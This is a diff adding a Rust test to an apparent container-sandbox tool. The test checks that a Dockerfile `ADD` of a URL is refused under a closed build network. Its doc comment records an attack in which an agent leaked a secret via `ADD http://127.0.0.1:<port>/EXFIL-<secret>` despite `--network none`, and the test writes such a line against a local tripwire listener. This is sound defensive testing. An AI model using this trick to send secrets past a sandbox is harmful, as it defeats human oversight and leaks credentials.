@@ -414,3 +414,51 @@ fn an_image_configurations_onbuild_triggers_are_refused_before_devcell_builds_fr
     ]);
     assert!(ok && containers.trim().is_empty(), "{containers}");
 }
+
+/// Attack L6: under a closed build network (spec-note 0442), a Dockerfile `ADD` of a URL is
+/// fetched by the builder itself, on the host's network: the agent wrote
+/// `ADD http://127.0.0.1:<port>/EXFIL-<secret>` and the next `up --network none` sent the
+/// secret out. It is a `build_fetch=<host>` request, refused before anything is built: a
+/// tripwire listener on this machine sees no connection, and no image exists.
+#[test]
+fn a_remote_add_is_refused_before_the_builder_fetches_it() {
+    use crate::support::context::TestContext;
+    let Some(ctx) = TestContext::busybox("before_build_remote_add") else {
+        return;
+    };
+    let ctx = ctx.isolated();
+    // Every connection is counted and closed at once, so a builder that reaches it fails
+    // fast instead of waiting for an answer.
+    let tripwire = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = tripwire.local_addr().unwrap().port();
+    let reached = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counted = reached.clone();
+    std::thread::spawn(move || {
+        for stream in tripwire.incoming() {
+            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            drop(stream);
+        }
+    });
+    let ctx = ctx.config(r#"{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "nobody"}"#);
+    let workspace = ctx.path().display().to_string();
+    ctx.cleanup()
+        .label(&format!("devcontainer.local_folder={workspace}"));
+    ctx.write(
+        ".devcontainer/Dockerfile",
+        &format!("FROM {BUSYBOX_IMAGE}\nADD http://127.0.0.1:{port}/EXFIL-s3cr3t /x\n"),
+    );
+    let out = ctx.output("up", &["--network", "none"]);
+    let all = text(&out);
+    assert!(!out.status.success(), "{all}");
+    let grant = format!("--allow runtime-option:build_fetch=127.0.0.1:{port}");
+    assert!(all.contains(&grant), "{grant}: {all}");
+    assert_eq!(
+        reached.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "the builder connected to the tripwire: {all}"
+    );
+    assert!(
+        images_of(ctx.path(), "label=devcell-test-none").is_empty(),
+        "built: {all}"
+    );
+}
